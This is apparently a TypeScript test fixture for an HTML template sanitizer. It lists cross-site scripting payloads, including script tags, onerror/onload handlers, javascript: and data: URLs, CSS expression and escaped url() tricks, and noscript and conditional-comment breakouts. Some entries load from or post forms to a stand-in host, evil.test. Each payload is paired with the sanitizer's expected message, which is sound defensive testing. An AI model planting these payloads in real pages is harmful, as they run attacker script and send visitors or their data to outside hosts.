/** What someone might put into a template, and what its author is told. */
export const hostile: readonly (readonly [string, string])[] = [
  ['<script>alert(1)</script>', '<script>'],
  ['<ScRiPt src=//evil.test></sCrIpT >', '<script>'],
  ['<img src=x onerror=alert(1)>', 'onerror="alert(1)" of <img>'],
  ['<p onclick="alert(1)">x</p>', 'onclick="alert(1)" of <p>'],
  ['<svg onload=alert(1)><circle/></svg>', '<svg>'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg>'],
  ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math>'],
  [
    '<p style="background:url(javascript:alert(1))">x</p>',
    'style="background:url(javascript:alert(1))" of <p>',
  ],
  [
    '<p style="background-image: url(https://evil.test/x)">x</p>',
    'style="background-image:url(https://evil.test/x)" of <p>',
  ],
  [
    '<p style="color: red; w\\69 dth: expression(alert(1))">x</p>',
    'style="w\\69dth:expression(alert(1))" of <p>',
  ],
  ['<style>@import "//evil.test"; p { color: red }</style>', '<style>'],
  ['<style>p { background: u\\72l(//evil.test) }</style>', '<style>'],
  ['<form action="https://evil.test"><input name=a><button>Go</button></form>', '<form>'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.test">', '<meta>'],
  ['<a href="javascript:alert(1)">x</a>', 'href="javascript:alert(1)" of <a>'],
  ['<a href=" JaVaScRiPt:alert(1)">x</a>', 'href="JaVaScRiPt:alert(1)" of <a>'],
  ['<a href="java&#x09;script:alert(1)">x</a>', 'href="java\tscript:alert(1)" of <a>'],
  ['<a href="vbscript:x">x</a>', 'href="vbscript:x" of <a>'],
  [
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    'href="data:text/html,<script>alert(1)</script>" of <a>',
  ],
  ['<img alt="a" src="data:image/svg+xml,x">', 'src="data:image/svg+xml,x" of <img>'],
  ['<iframe src="https://evil.test"></iframe>', '<iframe>'],
  ['<object data="https://evil.test"></object><embed src=x>', '<object>'],
  ['<base href="https://evil.test/"><link rel=stylesheet href=x>', '<base>'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<noscript>'],
  [
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    'background="javascript:alert(1)" of <table>',
  ],
  ['<!--[if mso]><img src=x onerror=alert(1)><![endif]-->', 'comments'],
]
